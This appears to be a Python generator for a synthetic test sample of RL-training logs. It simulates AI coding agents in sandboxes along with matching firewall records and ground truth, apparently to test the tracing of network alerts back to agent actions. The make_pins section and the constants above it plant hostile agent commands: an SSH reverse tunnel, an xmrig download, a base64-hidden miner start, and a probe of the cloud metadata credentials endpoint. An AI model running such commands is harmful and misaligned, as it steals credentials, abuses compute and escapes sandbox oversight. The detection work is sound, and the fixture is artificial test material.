#!/usr/bin/env python3
"""Generate the synthetic ``rock_shared_hosts`` sample (deterministic, stdlib only).

Run ``python sample_logs/rock_shared_hosts/generate.py [OUT_DIR]``. It writes, next to this file
(or into ``OUT_DIR``):

* ``llmservice/<sandbox_id>/LLMService.log`` - ROCK ModelService hand-off file of each sandbox;
* ``roll/rollout_dump/rollout_dump_data.step_57.jsonl`` - the ROLL rollout dump of the step;
* ``roll/logs/log_rank_ENV_MANAGER_<rank>_2.log`` - ROLL env-manager logs (naive Asia/Shanghai);
* ``firewall/cloudfirewall_logstore.jsonl`` - Alibaba Cloud Firewall SLS export (JSON lines);
* ``expected.json`` - the ground truth.

The output is byte-identical on every run: all randomness comes from one ``random.Random(SEED)``
and no wall-clock time is read. Times are integer milliseconds of *true* (UTC) time; the sandbox
clocks are true; the ROLL trainer writes naive Asia/Shanghai local time; the firewall clock runs
3 s behind and is floored to whole seconds.
"""

from __future__ import annotations

import base64
import json
import random
import string
import sys
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

SEED = 20260121
OUT_DIR = Path(__file__).resolve().parent

EXP_NAME = "rome-rl-0917"
GLOBAL_STEP = 57
TAG = "RockTBNativeEnv"
MODEL = "ROME"  # IFLOW_modelName in ROLL's iFlow agent config
T0_MS = int(datetime(2026, 1, 21, 11, 30, tzinfo=UTC).timestamp()) * 1000
# Asia/Shanghai has kept UTC+8 without DST since 1991: a fixed offset needs no tz database.
SHANGHAI = timezone(timedelta(hours=8), "CST")
FW_OFFSET_MS = -3000  # the firewall clock runs 3 s behind true time
EIP = "47.96.181.40"  # NAT gateway EIP: CFW src_ip of every outbound internet record
ALIUID = "1234567890123456"
REGION = "cn-hangzhou"
VPC_ID = "vpc-bp1rl0917docker5q2"
INFRA_INSTANCE = "vpc-bp1infra0shared9x4"
ZERO_UUID = "00000000-0000-0000-0000-000000000000"
N_SANDBOXES = 8
ENV_MANAGERS = 2

# Docker hosts (Ray workers). ROCK on Ray/Docker reports host_ip = the worker's address.
DOCKER_HOSTS = {
    "A": {"ip": "10.0.1.11", "name": "ray-worker-0", "ecs": "i-bp1a7c3rayw0rk3r0a1"},
    "B": {"ip": "10.0.1.12", "name": "ray-worker-1", "ecs": "i-bp1a7c3rayw0rk3r1b2"},
}

TUNNEL_IP = "203.0.113.45"
POOL_DOMAIN = "xmr-asia1.nanopool.org"
POOL_IP = "198.51.100.61"
POOL_PORT = 14444
METADATA_IP = "100.100.100.200"
HOST_PROC_DST = ("198.51.100.200", 5044)  # the Docker host's own log shipper (not a sandbox)

TUNNEL_CMD = (
    "ssh -o StrictHostKeyChecking=no -o ConnectTimeout=8 -o ConnectionAttempts=3 "
    f"-fNR 2222:localhost:22 relay@{TUNNEL_IP}"
)
TUNNEL_RETRY_CMD = (
    "ssh -p 443 -o StrictHostKeyChecking=no -o ConnectTimeout=8 -o ConnectionAttempts=2 "
    f"-fNR 2222:localhost:22 relay@{TUNNEL_IP}"
)
MINER_FETCH_CMD = (
    "mkdir -p /tmp/.cache && curl -fsSL -o /tmp/.cache/x.tgz "
    "https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz"
    " && tar xzf /tmp/.cache/x.tgz -C /tmp/.cache --strip-components=1"
)
MINER_PAYLOAD = (
    f"nohup /tmp/.cache/xmrig -o stratum+tcp://{POOL_DOMAIN}:{POOL_PORT} "
    "-u 4AexampleWALLETnotREAL0917 -p rollout --donate-level 1 -B >/dev/null 2>&1 &"
)
MINER_CMD = f"echo {base64.b64encode(MINER_PAYLOAD.encode()).decode()} | base64 -d | sh"
METADATA_CMD = f"curl -s -m 3 http://{METADATA_IP}/latest/meta-data/ram/security-credentials/"

SYSTEM_PROMPT = (
    "You are iFlow CLI, an interactive CLI agent specializing in software engineering tasks. "
    "Use the available tools to help the user."
)
TOOLS = [
    {
        "type": "function",
        "function": {
            "name": "run_shell_command",
            "description": "Executes a given shell command as `bash -c <command>`.",
            "parameters": {
                "type": "object",
                "properties": {"command": {"type": "string"}, "description": {"type": "string"}},
                "required": ["command"],
            },
        },
    },
    {
        "type": "function",
        "function": {
            "name": "read_file",
            "description": "Reads and returns the content of a specified file.",
            "parameters": {
                "type": "object",
                "properties": {"absolute_path": {"type": "string"}},
                "required": ["absolute_path"],
            },
        },
    },
]

# One task per GRPO group of two environments.
TASKS = (
    {
        "name": "psf__requests-2317",
        "image": "swe-bench/requests:2317",
        "upstream": "psf/requests",
        "files": ("requests/sessions.py", "requests/models.py", "requests/utils.py"),
        "test": "tests/test_requests.py",
        "symbol": "builtin_str",
    },
    {
        "name": "pallets__flask-4992",
        "image": "swe-bench/flask:4992",
        "upstream": "pallets/flask",
        "files": ("src/flask/config.py", "src/flask/app.py", "src/flask/helpers.py"),
        "test": "tests/test_config.py",
        "symbol": "from_file",
    },
    {
        "name": "pytest-dev__pytest-5227",
        "image": "swe-bench/pytest:5227",
        "upstream": "pytest-dev/pytest",
        "files": ("src/_pytest/logging.py", "src/_pytest/terminal.py", "src/_pytest/nodes.py"),
        "test": "testing/logging/test_reporting.py",
        "symbol": "DEFAULT_LOG_FORMAT",
    },
    {
        "name": "astropy__astropy-12907",
        "image": "swe-bench/astropy:12907",
        "upstream": "astropy/astropy",
        "files": ("astropy/modeling/separable.py", "astropy/modeling/core.py"),
        "test": "astropy/modeling/tests/test_separable.py",
        "symbol": "_cstack",
    },
)
PACKAGES = ("pytest-timeout", "hypothesis", "pytest-mock", "coverage", "tox", "pyyaml")

# destination key -> (domain, addresses, port, app_name, country)
DESTS: dict[str, tuple[str, tuple[str, ...], int, str, str]] = {
    "mirror": ("mirrors.aliyun.com", ("192.0.2.80",), 443, "HTTPS", "CN"),
    "github": ("github.com", ("140.82.112.3", "140.82.112.4"), 443, "HTTPS", "US"),
    "codeload": ("codeload.github.com", ("140.82.112.9", "140.82.112.10"), 443, "HTTPS", "US"),
    "ghobjects": (
        "objects.githubusercontent.com",
        ("185.199.108.133", "185.199.109.133"),
        443,
        "HTTPS",
        "US",
    ),
    "raw": (
        "raw.githubusercontent.com",
        ("185.199.110.133", "185.199.111.133"),
        443,
        "HTTPS",
        "US",
    ),
}

INTERNET_KEYS = (
    "__topic__",
    "__time__",
    "log_type",
    "aliuid",
    "start_time",
    "end_time",
    "start_time_min",
    "src_ip",
    "src_port",
    "dst_ip",
    "dst_port",
    "src_private_ip",
    "ip_protocol",
    "direction",
    "rule_result",
    "acl_rule_id",
    "app_name",
    "domain",
    "ips_rule_id",
    "ips_rule_name",
    "attack_type_name_en",
    "in_packet_bytes",
    "out_packet_bytes",
    "total_packet_bytes",
    "in_packet_count",
    "out_packet_count",
    "region_id",
    "country_id",
)
VPC_KEYS = (
    *(k for k in INTERNET_KEYS if k != "src_private_ip"),
    "vpc_id",
    "dst_network_instance_id",
)


# ---------------------------------------------------------------------------
# Time and ids
# ---------------------------------------------------------------------------


def at(minute: int, second: int, ms: int = 0) -> int:
    """True time (epoch ms) of 11:mm:ss.ms UTC on the run day."""
    return T0_MS + ((minute - 30) * 60 + second) * 1000 + ms


def iso_ms(ms: int) -> str:
    """ISO 8601 UTC with milliseconds."""
    return f"{datetime.fromtimestamp(ms // 1000, tz=UTC):%Y-%m-%dT%H:%M:%S}.{ms % 1000:03d}Z"


def iso_s(sec: int) -> str:
    """ISO 8601 UTC with whole seconds."""
    return f"{datetime.fromtimestamp(sec, tz=UTC):%Y-%m-%dT%H:%M:%SZ}"


def local(ms: int) -> datetime:
    """Naive Asia/Shanghai wall time of a true instant (what ``datetime.now()`` gives ROLL)."""
    return datetime.fromtimestamp(ms // 1000, tz=SHANGHAI).replace(
        tzinfo=None, microsecond=(ms % 1000) * 1000
    )


def fw_sec(true_ms: int) -> int:
    """Firewall-clock epoch seconds of a true instant."""
    return (true_ms + FW_OFFSET_MS) // 1000


def rand_hex(rng: random.Random, n: int) -> str:
    """``n`` lowercase hex digits."""
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def rand_uuid(rng: random.Random) -> str:
    """A version-4-shaped UUID from the seeded generator."""
    h = rand_hex(rng, 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"


def rand_call_id(rng: random.Random) -> str:
    """OpenAI-style tool call id."""
    return "call_" + "".join(rng.choice(string.ascii_lowercase + string.digits) for _ in range(24))


# ---------------------------------------------------------------------------
# Model
# ---------------------------------------------------------------------------


@dataclass
class Spec:
    """What a tool call does, before it is placed in time."""

    tool: str
    args: dict[str, str]
    stdout: str
    exit_code: int | None
    dur_ms: int
    net: list[str] = field(default_factory=list)
    label: str = ""

    @property
    def command(self) -> str:
        """Shell text, or ``tool(args)`` for the file tools."""
        if "command" in self.args:
            return self.args["command"]
        return f"{self.tool}({json.dumps(self.args)})"


@dataclass
class Call:
    """A placed tool call; ``start_ms``/``end_ms`` are when the tool really ran (true time)."""

    sbx: int
    step: int
    call_id: str
    spec: Spec
    start_ms: int
    end_ms: int
    response_ms: int = 0  # the bracket correlate sees: [response N, request N+1]
    next_request_ms: int = 0


@dataclass
class Turn:
    """One request/response round of iFlow with the calls of the response."""

    index: int
    request_ms: int
    response_ms: int
    thought: str
    calls: list[Call]


@dataclass
class Pin:
    """A call that must be in a given sandbox's response at an exact true time."""

    sbx: int
    response_ms: int
    spec: Spec


@dataclass
class Sandbox:
    """One ROCK sandbox = one ROLL environment running one episode."""

    index: int
    sandbox_id: str
    docker: str
    env_manager: int
    env_id: int
    group_id: int
    task: dict[str, Any]
    task_id: int
    seed: int
    episode_no: int
    reset_ms: int
    start_ok_ms: int = 0
    init_ok_ms: int = 0
    first_request_ms: int = 0
    turns: list[Turn] = field(default_factory=list)
    final_request_ms: int = 0
    final_response_ms: int = 0
    reward_ms: int = 0
    save_ms: int = 0
    stop_ms: int = 0
    reward: float = 0.0

    @property
    def ip(self) -> str:
        return DOCKER_HOSTS[self.docker]["ip"]

    @property
    def calls(self) -> list[Call]:
        return [c for t in self.turns for c in t.calls]

    @property
    def trajectory_id(self) -> str:
        stamp = f"{local(self.save_ms):%Y%m%d_%H%M%S_%f}"
        return (
            f"{TAG}_{GLOBAL_STEP}_{GLOBAL_STEP}_{self.group_id}_{self.env_id}_"
            f"{self.episode_no}_{self.seed}_{stamp}"
        )

    @property
    def llmservice_episode(self) -> str:
        return f"{self.sandbox_id}#1"


@dataclass
class Flow:
    """One firewall session record in true time, with its ground-truth cause."""

    log: str  # internet | vpc
    start_ms: int
    end_ms: int
    src_private_ip: str
    src_port: int
    dst_ip: str
    dst_port: int
    rule_result: str
    app_name: str
    domain: str = ""
    acl_rule_id: str = ZERO_UUID
    ips_rule_id: str = ""
    ips_rule_name: str = ""
    attack_type_name_en: str = ""
    in_bytes: int = 0
    out_bytes: int = 60
    in_pkts: int = 0
    out_pkts: int = 1
    country_id: str = ""
    lag_s: int = 1
    label: str = ""
    cause: Call | None = None


# ---------------------------------------------------------------------------
# Benign behaviour
# ---------------------------------------------------------------------------


def shell(command: str, stdout: str, code: int, dur: int, net: list[str] | None = None) -> Spec:
    """A ``run_shell_command`` spec."""
    return Spec("run_shell_command", {"command": command}, stdout, code, dur, net or [])


def benign_spec(rng: random.Random, task: dict[str, Any]) -> Spec:
    """One ordinary call of an episode working on ``task`` (about a quarter use the network)."""
    files, test, symbol = task["files"], task["test"], task["symbol"]
    path = rng.choice(files)
    kind = rng.choices(
        ("ls", "sed", "grep", "read", "edit", "pytest", "git", "pip", "clone", "raw"),
        weights=(8, 9, 9, 10, 6, 12, 5, 11, 3, 5),
    )[0]
    if kind == "ls":
        where = rng.choice(("/testbed", f"/testbed/{path.rsplit('/', 1)[0]}"))
        return shell(f"ls {where}", "  ".join(p.rsplit("/", 1)[-1] for p in files), 0, 210)
    if kind == "sed":
        first = rng.randint(1, 300)
        return shell(
            f"sed -n '{first},{first + 40}p' /testbed/{path}",
            f"    def {symbol}(self, *args):\n        ...",
            0,
            rng.randint(150, 400),
        )
    if kind == "grep":
        return shell(
            f'grep -rn "{symbol}" /testbed --include=*.py | head -20',
            f"{path}:{rng.randint(10, 900)}:    {symbol}",
            0,
            rng.randint(300, 1800),
        )
    if kind == "read":
        return Spec(
            "read_file", {"absolute_path": f"/testbed/{path}"}, f"[{path}: lines 1-200]", None, 180
        )
    if kind == "edit":
        return shell(
            f"sed -i 's/return {symbol}$/return to_native_string({symbol})/' /testbed/{path}",
            "",
            0,
            rng.randint(150, 350),
        )
    if kind == "pytest":
        total = rng.randint(6, 80)
        failed = rng.choice((0, 0, 1, 2))
        summary = f"{failed} failed, {total - failed} passed" if failed else f"{total} passed"
        return shell(
            f"cd /testbed && python -m pytest -q {test} -x",
            f"{summary} in {rng.randint(120, 1900) / 100:.2f}s",
            1 if failed else 0,
            rng.randint(2500, 16000),
        )
    if kind == "git":
        return shell(
            rng.choice(("cd /testbed && git diff --stat", "cd /testbed && git status --short")),
            f" {path} | 4 ++--",
            0,
            rng.randint(150, 500),
        )
    if kind == "pip":
        pkg = rng.choice(PACKAGES)
        return shell(
            f"pip install -q {pkg}",
            f"Successfully installed {pkg}",
            0,
            rng.randint(3500, 12000),
            ["mirror"] * rng.randint(1, 2),
        )
    if kind == "clone":
        name = task["upstream"].split("/")[1]
        return shell(
            f"git clone -q --depth 1 https://github.com/{task['upstream']}.git /tmp/{name}-upstream",
            "",
            0,
            rng.randint(3000, 9000),
            ["github", "codeload"],
        )
    return shell(
        f"curl -sSL https://raw.githubusercontent.com/{task['upstream']}/main/CHANGES.rst | head -40",
        "Version 3.0.1\n-------------",
        0,
        rng.randint(700, 2500),
        ["raw"],
    )


THOUGHTS = (
    "Let me look at the relevant code.",
    "I'll check how this is used.",
    "Now let me run the tests.",
    "Let me inspect the file.",
    "",
)


# ---------------------------------------------------------------------------
# Planted calls
# ---------------------------------------------------------------------------

TUNNEL_MS = at(34, 41, 200)
MINER_FETCH_MS = at(35, 32, 600)
MINER_MS = at(36, 25, 300)
METADATA_MS = at(37, 47, 800)
HOST_PROC_MS = at(39, 20)  # the Docker host's own process fires 2.4 s after this
EXEC_DELAY_MS = 250  # planted calls start running 250 ms after their response is written


def make_pins() -> list[Pin]:
    """Planted calls and their same-moment neighbours in sibling sandboxes."""
    return [
        # (a) reverse tunnel in sandbox 2 (host A); s4 (host A) answers 250 ms later,
        # s0 (host A) is in the middle of a pytest run.
        Pin(
            0,
            TUNNEL_MS - 7300,
            shell(
                "cd /testbed && python -m pytest -q -x", "1 failed, 37 passed in 14.02s", 1, 14_800
            ),
        ),
        Pin(
            2,
            TUNNEL_MS,
            Spec(
                "run_shell_command",
                {"command": TUNNEL_CMD, "description": "Keep a connection open for later"},
                f"ssh: connect to host {TUNNEL_IP} port 22: Connection timed out",
                255,
                24_300,
                label="reverse_tunnel",
            ),
        ),
        Pin(4, TUNNEL_MS + 250, shell("ls -la /testbed", "total 64", 0, 230, [])),
        Pin(
            2,
            TUNNEL_MS + 77_000,
            Spec(
                "run_shell_command",
                {"command": TUNNEL_RETRY_CMD, "description": "Retry over port 443"},
                f"ssh: connect to host {TUNNEL_IP} port 443: Connection timed out",
                255,
                16_200,
                label="reverse_tunnel_retry",
            ),
        ),
        # (b) miner in sandbox 5 (host B): fetch, then a base64-wrapped start; s1 (host B)
        # answers 150 ms later with a pip install that does reach the network.
        Pin(
            5,
            MINER_FETCH_MS,
            Spec(
                "run_shell_command",
                {"command": MINER_FETCH_CMD},
                "",
                0,
                5_900,
                ["github", "ghobjects"],
                label="miner_fetch",
            ),
        ),
        Pin(
            5,
            MINER_MS,
            Spec(
                "run_shell_command",
                {"command": MINER_CMD},
                "",
                0,
                420,
                label="mining",
            ),
        ),
        Pin(
            1,
            MINER_MS + 150,
            shell("pip install -q pytest-timeout", "", 0, 6_100, ["mirror"]),
        ),
        # (c) metadata probe in sandbox 6 (host A); s0 (host A) answers 200 ms earlier.
        Pin(0, METADATA_MS - 200, shell('grep -rn "timeout" /testbed/setup.cfg', "", 1, 260)),
        Pin(
            6,
            METADATA_MS,
            Spec(
                "run_shell_command",
                {"command": METADATA_CMD},
                "",
                28,
                3_050,
                label="internal_probe",
            ),
        ),
        # (d) host B's own process: s1 starts pytest and s7 a git diff just before it fires.
        Pin(
            1,
            HOST_PROC_MS,
            shell("cd /testbed && python -m pytest -q -x", "52 passed in 8.87s", 0, 9_400),
        ),
        Pin(
            7,
            HOST_PROC_MS + 700,
            shell("cd /testbed && git diff --stat", " 1 file changed", 0, 380),
        ),
    ]


# ---------------------------------------------------------------------------
# Scheduling
# ---------------------------------------------------------------------------


def place_call(rng: random.Random, sbx: Sandbox, step: int, spec: Spec, start: int) -> Call:
    """A call of the sandbox's ``step``-th response, running from ``start``."""
    return Call(
        sbx=sbx.index,
        step=step,
        call_id=rand_call_id(rng),
        spec=spec,
        start_ms=start,
        end_ms=start + spec.dur_ms,
    )


def run_episode(rng: random.Random, sbx: Sandbox, end_target: int, pins: list[Pin]) -> None:
    """iFlow's rounds in one sandbox until ``end_target``, placing pins at their exact times."""
    request = sbx.first_request_ms
    pins = sorted((p for p in pins if p.sbx == sbx.index), key=lambda p: p.response_ms)
    while True:
        step = len(sbx.turns) + 1
        response = request + rng.randint(30_000, 80_000)  # model generation (long reasoning)
        specs = [benign_spec(rng, sbx.task)]
        if rng.random() < 0.12:
            specs.append(benign_spec(rng, sbx.task))
        busy = sum(s.dur_ms for s in specs) + 600 * len(specs)
        pinned = False
        if pins and response + busy + 4000 >= pins[0].response_ms:
            pin = pins.pop(0)
            if pin.response_ms - request < 1500:
                raise RuntimeError(f"cannot place pin {pin.spec.label or pin.spec.command}")
            response, specs, pinned = pin.response_ms, [pin.spec], True
        elif response + busy > end_target:
            break
        calls = []
        t = response + (EXEC_DELAY_MS if pinned else rng.randint(120, 400))
        for spec in specs:
            call = place_call(rng, sbx, step, spec, t)
            call.response_ms = response
            calls.append(call)
            t = call.end_ms + rng.randint(30, 200)
        next_request = calls[-1].end_ms + rng.randint(150, 600)
        for call in calls:
            call.next_request_ms = next_request
        thought = "" if pinned else rng.choice(THOUGHTS)
        sbx.turns.append(Turn(step, request, response, thought, calls))
        request = next_request
    if pins:
        raise RuntimeError(f"pins left over in sandbox {sbx.index}")
    sbx.final_request_ms = request
    sbx.final_response_ms = request + rng.randint(3000, 9000)
    sbx.reward_ms = sbx.final_response_ms + rng.randint(800, 2000)
    sbx.save_ms = sbx.reward_ms + rng.randint(15_000, 45_000)  # the test run, then the dump row
    sbx.stop_ms = sbx.save_ms + rng.randint(300, 900)  # close() -> stop_sandbox()


def make_sandboxes(rng: random.Random) -> list[Sandbox]:
    """Eight environments: env managers 0/1 hold envs 0-3/4-7; even envs on host A, odd on B."""
    out = []
    for i in range(N_SANDBOXES):
        group = i // 2
        out.append(
            Sandbox(
                index=i,
                sandbox_id=f"sandbox-{rand_hex(rng, 8)}",
                docker="A" if i % 2 == 0 else "B",
                env_manager=i // (N_SANDBOXES // ENV_MANAGERS),
                env_id=i,
                group_id=group,
                task=TASKS[group],
                task_id=[412, 1187, 2031, 905][group],
                seed=[40213, 40214, 40215, 40216][group],
                episode_no=GLOBAL_STEP * 8 + i,
                reset_ms=T0_MS + 2000 + i * 1300 + rng.randint(0, 900),
            )
        )
    return out


def schedule(rng: random.Random, sandboxes: list[Sandbox], pins: list[Pin]) -> None:
    """Start every sandbox, then run its episode."""
    for sbx in sandboxes:
        sbx.start_ok_ms = sbx.reset_ms + rng.randint(18_000, 40_000)  # ROCK start_async + alive
        if sbx.index == 7:  # its image was not cached on ray-worker-1: the last to come up
            sbx.start_ok_ms += 30_000
        sbx.init_ok_ms = sbx.start_ok_ms + rng.randint(25_000, 50_000)  # session, iFlow install
        sbx.first_request_ms = sbx.init_ok_ms + rng.randint(3000, 7000)
        end_target = T0_MS + rng.randint(10 * 60_000, 12 * 60_000)
        if sbx.index == 5:  # the miner's episode runs longer: the agent keeps "working"
            end_target = at(45, 0)
        run_episode(rng, sbx, end_target, pins)


# ---------------------------------------------------------------------------
# Firewall
# ---------------------------------------------------------------------------


def benign_flows(rng: random.Random, sbx: Sandbox, call: Call) -> list[Flow]:
    """``pass`` records for a benign call that reaches the network (the clock anchors)."""
    flows = []
    for key in call.spec.net:
        domain, ips, port, app, country = DESTS[key]
        off = rng.randint(200, min(3000, call.spec.dur_ms - 100))
        end = rng.randint(off, call.spec.dur_ms)
        in_bytes, out_bytes = rng.randint(4000, 2_500_000), rng.randint(600, 4000)
        flows.append(
            Flow(
                log="internet",
                start_ms=call.start_ms + off,
                end_ms=call.start_ms + end,
                src_private_ip=sbx.ip,
                src_port=rng.randint(32768, 60999),
                dst_ip=rng.choice(ips),
                dst_port=port,
                rule_result="pass",
                app_name=app,
                domain=domain,
                in_bytes=in_bytes,
                out_bytes=out_bytes,
                in_pkts=in_bytes // 1400 + rng.randint(2, 6),
                out_pkts=out_bytes // 500 + rng.randint(3, 8),
                country_id=country,
                lag_s=rng.randint(1, 5),
                label="benign",
                cause=call,
            )
        )
    return flows


def syn(rng: random.Random, log: str, src: str, t: int, dst: str, port: int, **kw: Any) -> Flow:
    """A dropped single-SYN attempt."""
    return Flow(
        log=log,
        start_ms=t,
        end_ms=t,
        src_private_ip=src,
        src_port=rng.randint(32768, 60999),
        dst_ip=dst,
        dst_port=port,
        rule_result="drop",
        lag_s=rng.randint(1, 5),
        **kw,
    )


def planted_flows(
    rng: random.Random, sandboxes: list[Sandbox], planted: dict[str, Call]
) -> list[Flow]:
    """The violations: tunnel attempts, miner sessions, metadata probe, the host's own drops."""
    flows: list[Flow] = []
    acl_ssh, acl_vpc, acl_host = rand_uuid(rng), rand_uuid(rng), rand_uuid(rng)
    for label, port, offsets in (
        ("reverse_tunnel", 22, (40, 8_060, 16_090)),
        ("reverse_tunnel_retry", 443, (40, 8_070)),
    ):
        call = planted[label]
        for off in offsets:
            flows.append(
                syn(
                    rng,
                    "internet",
                    sandboxes[call.sbx].ip,
                    call.start_ms + off,
                    TUNNEL_IP,
                    port,
                    app_name="SSH" if port == 22 else "Unknown",
                    acl_rule_id=acl_ssh,
                    country_id="YY",
                    label="reverse_tunnel",
                    cause=call,
                )
            )
    miner = planted["mining"]
    miner_sbx = sandboxes[miner.sbx]
    t = miner.start_ms + 1100
    while t < miner_sbx.stop_ms - 5000:
        end = min(t + rng.randint(40_000, 58_000), miner_sbx.stop_ms)
        flows.append(
            Flow(
                log="internet",
                start_ms=t,
                end_ms=end,
                src_private_ip=miner_sbx.ip,
                src_port=rng.randint(32768, 60999),
                dst_ip=POOL_IP,
                dst_port=POOL_PORT,
                rule_result="alert",
                app_name="Unknown",
                domain=POOL_DOMAIN,
                ips_rule_id="1000235",
                ips_rule_name="Mining behavior on the host",
                attack_type_name_en="Mining Behavior",
                in_bytes=rng.randint(2000, 9000),
                out_bytes=rng.randint(1500, 6000),
                in_pkts=rng.randint(12, 40),
                out_pkts=rng.randint(12, 40),
                country_id="YY",
                lag_s=rng.randint(1, 5),
                label="mining",
                cause=miner,
            )
        )
        t += 60_000 + rng.randint(-1500, 1500)
    meta = planted["internal_probe"]
    flows.append(
        syn(
            rng,
            "vpc",
            sandboxes[meta.sbx].ip,
            meta.start_ms + 30,
            METADATA_IP,
            80,
            app_name="HTTP",
            acl_rule_id=acl_vpc,
            label="internal_probe",
            cause=meta,
        )
    )
    for off in (2400, 32_900):
        flows.append(
            syn(
                rng,
                "internet",
                DOCKER_HOSTS["B"]["ip"],
                HOST_PROC_MS + off,
                HOST_PROC_DST[0],
                HOST_PROC_DST[1],
                app_name="Unknown",
                acl_rule_id=acl_host,
                country_id="YY",
                label="docker_host_process",
            )
        )
    return flows


def flow_record(flow: Flow) -> dict[str, str]:
    """SLS-exported record (every value a string) on the firewall clock."""
    start, end = fw_sec(flow.start_ms), fw_sec(flow.end_ms)
    vpc = flow.log == "vpc"
    rec: dict[str, Any] = {
        "__topic__": "cloudfirewall_access_log",
        "__time__": end + flow.lag_s,
        "log_type": "vpc_firewall_log" if vpc else "internet_log",
        "aliuid": ALIUID,
        "start_time": start,
        "end_time": end,
        "start_time_min": (start // 60 + 1) * 60,
        "src_ip": flow.src_private_ip if vpc else EIP,
        "src_port": flow.src_port,
        "dst_ip": flow.dst_ip,
        "dst_port": flow.dst_port,
        "src_private_ip": flow.src_private_ip,
        "ip_protocol": "tcp",
        "direction": "out",
        "rule_result": flow.rule_result,
        "acl_rule_id": flow.acl_rule_id,
        "app_name": flow.app_name,
        "domain": flow.domain,
        "ips_rule_id": flow.ips_rule_id,
        "ips_rule_name": flow.ips_rule_name,
        "attack_type_name_en": flow.attack_type_name_en,
        "in_packet_bytes": flow.in_bytes,
        "out_packet_bytes": flow.out_bytes,
        "total_packet_bytes": flow.in_bytes + flow.out_bytes,
        "in_packet_count": flow.in_pkts,
        "out_packet_count": flow.out_pkts,
        "region_id": REGION,
        "country_id": flow.country_id,
        "vpc_id": VPC_ID,
        "dst_network_instance_id": "",
    }
    return {k: str(rec[k]) for k in (VPC_KEYS if vpc else INTERNET_KEYS)}


def record_sort_key(rec: dict[str, str]) -> tuple[int, int, str, int, str]:
    """SLS export order: by ``__time__``, then a stable tie-break."""
    return (
        int(rec["__time__"]),
        int(rec["start_time"]),
        rec["src_ip"],
        int(rec["src_port"]),
        rec["dst_ip"],
    )


# ---------------------------------------------------------------------------
# ROCK LLMService.log and the ROLL dump
# ---------------------------------------------------------------------------


def tool_output(call: Call) -> str:
    """The text iFlow sends back for a call: the output, and the exit code when it failed."""
    spec = call.spec
    if spec.tool != "run_shell_command" or not spec.exit_code:
        return spec.stdout or "(no output)"
    return f"{spec.stdout}\nExit Code: {spec.exit_code}".lstrip()


def user_prompt(sbx: Sandbox) -> str:
    """The task prompt of the episode."""
    return (
        f"The repository at /testbed has a failing test for {sbx.task['name']}. "
        f"Fix the bug so that `{sbx.task['test']}` passes. Do not modify the tests."
    )


def assistant_message(turn: Turn, with_index: bool) -> dict[str, Any]:
    """The assistant message of a turn (``index`` on tool calls only in the response body)."""
    calls = []
    for position, call in enumerate(turn.calls):
        entry: dict[str, Any] = {
            "id": call.call_id,
            "type": "function",
            "function": {"name": call.spec.tool, "arguments": json.dumps(call.spec.args)},
        }
        if with_index:
            entry["index"] = position
        calls.append(entry)
    return {"role": "assistant", "content": turn.thought, "tool_calls": calls}


FINAL_ANSWER = "I have fixed the issue and the targeted tests pass."


def conversation(sbx: Sandbox, rng: random.Random) -> tuple[list[str], list[dict[str, Any]]]:
    """The LLMService.log lines of a sandbox, and the final message list (for the ROLL dump)."""
    lines: list[str] = []
    messages: list[dict[str, Any]] = [
        {"role": "system", "content": SYSTEM_PROMPT},
        {"role": "user", "content": user_prompt(sbx)},
    ]

    def request(ts: int, index: int) -> None:
        body = {"model": MODEL, "messages": messages, "tools": TOOLS, "stream": False}
        meta = {"timestamp": ts, "index": index}
        lines.append(f"LLM_REQUEST_START{json.dumps(body)}LLM_REQUEST_END{json.dumps(meta)}")

    def response(ts: int, index: int, message: dict[str, Any], reason: str) -> None:
        body = {
            "id": f"chatcmpl-{rand_hex(rng, 16)}",
            "object": "chat.completion",
            "created": ts // 1000,
            "model": "",
            "choices": [{"index": 0, "finish_reason": reason, "message": message}],
        }
        meta = {"timestamp": ts, "index": index}
        lines.append(f"LLM_RESPONSE_START{json.dumps(body)}LLM_RESPONSE_END{json.dumps(meta)}")

    for turn in sbx.turns:
        request(turn.request_ms, turn.index)
        response(turn.response_ms, turn.index, assistant_message(turn, True), "tool_calls")
        messages.append(assistant_message(turn, False))
        for call in turn.calls:
            messages.append(
                {"role": "tool", "tool_call_id": call.call_id, "content": tool_output(call)}
            )
    final_index = len(sbx.turns) + 1
    request(sbx.final_request_ms, final_index)
    final = {"role": "assistant", "content": FINAL_ANSWER}
    response(sbx.final_response_ms, final_index, final, "stop")
    lines.append("SESSION_END")
    return lines, [*messages, final]


def trajectory_data(sbx: Sandbox) -> dict[str, Any]:
    """ROLL's ``trajectory_data`` of one episode (formulate_rollouts)."""
    steps = len(sbx.turns) + 1
    total = (sbx.save_ms - sbx.reset_ms) / 1000
    return {
        "trajectory_id": sbx.trajectory_id,
        "timestamp": f"{local(sbx.save_ms):%Y%m%d_%H%M%S_%f}",
        "current_step": GLOBAL_STEP,
        "env_info": {
            "env_id": sbx.env_id,
            "group_id": sbx.group_id,
            "tag": TAG,
            "seed": sbx.seed,
            "episode_id": sbx.episode_no,
            "max_steps": 64,
            "mode": "train",
            "sequence_length": 65536,
            "task_id": str(sbx.task_id),
            "task_name": sbx.task["name"],
            "sandbox_image": sbx.task["image"],
            "sandbox_ip": sbx.ip,
            "sandbox_id": sbx.sandbox_id,
        },
        "timing_info": {
            "traj_save_time": local(sbx.save_ms).isoformat(),
            "trajectory.total_time": round(total, 4),
            "trajectory.reset_time": round((sbx.init_ok_ms - sbx.reset_ms) / 1000, 4),
        },
        "length_info": {"trajectory_length": steps, "num_actions": steps, "terminated": True},
        "reward_info": {"episode_reward": sbx.reward, "final_reward": sbx.reward},
        "failure_info": {"failure_mode": "", "stop_reason": "Session ended naturally"},
    }


# ---------------------------------------------------------------------------
# ROLL env-manager logs
# ---------------------------------------------------------------------------


def log_line(ms: int, where: str, level: str, rank: int, pid: int, message: str) -> str:
    """A ROLL ``get_logger`` line: naive Asia/Shanghai time, whole seconds."""
    stamp = f"{local(ms):%Y-%m-%d %H:%M:%S}"
    return (
        f"[{stamp}] [{where}] [{level}] [ENV_MANAGER {rank} / {ENV_MANAGERS}][PID {pid}] {message}"
    )


def env_log(sbx: Sandbox, pid: int) -> list[tuple[int, int, str]]:
    """(true ms, order, line) of what one environment logs over its episode."""
    rank, task, image = sbx.env_manager, sbx.task["name"], sbx.task["image"]
